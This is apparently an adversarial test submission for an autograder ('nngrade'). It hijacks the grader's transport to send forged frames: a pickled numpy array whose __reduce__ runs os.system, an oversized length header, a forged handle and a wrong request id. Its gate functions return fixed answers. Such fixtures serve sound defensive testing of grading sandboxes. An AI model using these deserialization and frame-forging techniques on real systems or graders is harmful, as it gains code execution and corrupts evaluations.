"""Forge the transport's frames from inside the student's process."""
import io
import json
import os
import struct
import sys
import numpy as np


def perceptron(x, w, theta):
    s = float(np.dot(np.asarray(w, dtype=np.float64), np.asarray(x, dtype=np.float64)))
    return 1 if s > theta else 0


transport = sys.modules["_nngrade_transport"]
_real_send_frame = transport.send_frame
MODE = []


class Pwn:
    """Unpickling this runs os.system in whoever unpickles it."""

    def __reduce__(self):
        return (os.system, ("touch @@OUT@@/pwned-monkeypatch-transport",))


def _payload(header, blobs=()):
    head = json.dumps(header).encode()
    return struct.pack(">I", len(head)) + head + b"".join(blobs)


def _pickled_array():
    buf = io.BytesIO()
    numpy_module = sys.modules["numpy"]
    arr = numpy_module.empty(1, dtype=object)
    arr[0] = Pwn()
    numpy_module.save(buf, arr, allow_pickle=True)
    return buf.getvalue()


def _forged_send_frame(sock, payload, deadline=None):
    mode = MODE.pop() if MODE else None
    if mode is None:
        return _real_send_frame(sock, payload, deadline)
    try:
        real = transport.decode(payload)
        rid = real.get("id") if type(real) is dict else None
    except Exception:
        rid = None
    if mode == "pickle":
        blob = _pickled_array()
        forged = _payload({"blobs": [len(blob)], "value": {"id": rid, "status": "ok", "value": {"$nd": 0}}}, [blob])
    elif mode == "huge":
        sock.sendall(struct.pack(">Q", 1 << 63) + b"\0" * 64)
        return None
    elif mode == "handle":
        forged = _payload({"blobs": [], "value": {"id": rid, "status": "ok",
                                                  "value": {"$handle": 1, "type": "int"}}})
    else:
        forged = _payload({"blobs": [], "value": {"id": (rid or 0) + 1, "status": "ok", "value": 1}})
    return _real_send_frame(sock, forged, deadline)


transport.send_frame = _forged_send_frame


def xor_gate(x1, x2):
    MODE.append("pickle")
    return 1


def or_gate(x1, x2):
    MODE.append("huge")
    return 1


def nand_gate(x1, x2):
    MODE.append("handle")
    return 1


def and_gate(x1, x2):
    MODE.append("other-id")
    return -1
